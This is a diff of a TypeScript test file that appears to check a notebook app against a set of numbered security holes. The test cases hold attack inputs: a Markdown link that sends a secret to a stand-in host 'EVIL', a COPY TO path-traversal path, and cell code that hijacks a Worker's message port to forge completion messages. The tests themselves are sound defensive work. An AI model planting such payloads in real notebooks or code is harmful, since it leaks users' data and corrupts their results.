@@ -12,13 +12,15 @@ export const holeCases: HostileCase[] = [
     name: "hole 1: a Markdown link with ${} in its destination",
     hole: 1,
     notebook: notebook([counter, `See [details](http://EVIL/d?c=${secretExpr}).`]),
-    acceptDialogs: true,
+    // The user follows the link and, when the app asks, says yes to leaving.
     action: async ({ page }) => {
       const link = page.locator(".prose a", { hasText: "details" });
       if ((await link.count()) > 0) await link.first().click();
+      const open = page.locator('[data-action="link-open"]');
+      if (await open.isVisible({ timeout: 1_000 }).catch(() => false)) await open.click();
       await page.waitForTimeout(1500);
     },
-    weaken: "as-built",
+    weaken: "markdown-values",
   },
   {
     name: "hole 2: a same-site link carrying data in extra query parameters",
@@ -29,7 +31,7 @@ export const holeCases: HostileCase[] = [
       if ((await link.count()) > 0) await link.first().click();
       await page.waitForTimeout(1500);
     },
-    weaken: "as-built",
+    weaken: "link-classifier",
   },
   {
     name: "hole 3: COPY TO a /data/./../ path",
@@ -79,9 +81,11 @@ export const holeCases: HostileCase[] = [
     hole: 4,
     data: "none",
     notebook: notebook([cell("ts big", "return Array.from({ length: 3_000_000 }, (_, i) => ({ i, v: i * 2 }));")]),
-    maxStallMs: 200,
+    // The open hole froze the page for seconds (5.5 s measured); with rows crossing as Arrow the gaps
+    // stay near 200 ms even on a loaded 2-core machine, where the scheduler alone makes gaps that long.
+    maxStallMs: 1000,
     settleMs: 120_000,
-    weaken: "as-built",
+    weaken: "arrow-rows",
   },
   {
     name: "hole 5: a select with options_from saves the picked client in the .md",
@@ -97,7 +101,7 @@ export const holeCases: HostileCase[] = [
       await page.locator('[data-action="save-notebook"]').click();
       await download;
     },
-    weaken: "as-built",
+    weaken: "remember",
   },
   {
     name: "hole 6: a cell forges the done message of a later run",
@@ -112,6 +116,8 @@ export const holeCases: HostileCase[] = [
         "  port = this; if (m && typeof m.run === 'number') run = m.run;",
         "  return post.call(this, m, ...rest);",
         "};",
+        // Any port a later run hands this Worker is taken too (a Worker that outlived its run).
+        "self.addEventListener('message', (e) => { if (e.ports.length) port = e.ports[0]; });",
         "log('hello');",
         "setInterval(() => {",
         "  for (let k = run + 1; k < run + 20; k++) post.call(port, { type: 'done', run: k, value: 'FORGED' });",
@@ -125,6 +131,6 @@ export const holeCases: HostileCase[] = [
       const shown = await value.textContent({ timeout: 5_000 }).catch(() => null);
       return shown === "genuine" ? [] : [`the honest cell shows ${JSON.stringify(shown)}, not its own value`];
     },
-    weaken: "as-built",
+    weaken: "fresh-worker",
   },
 ];
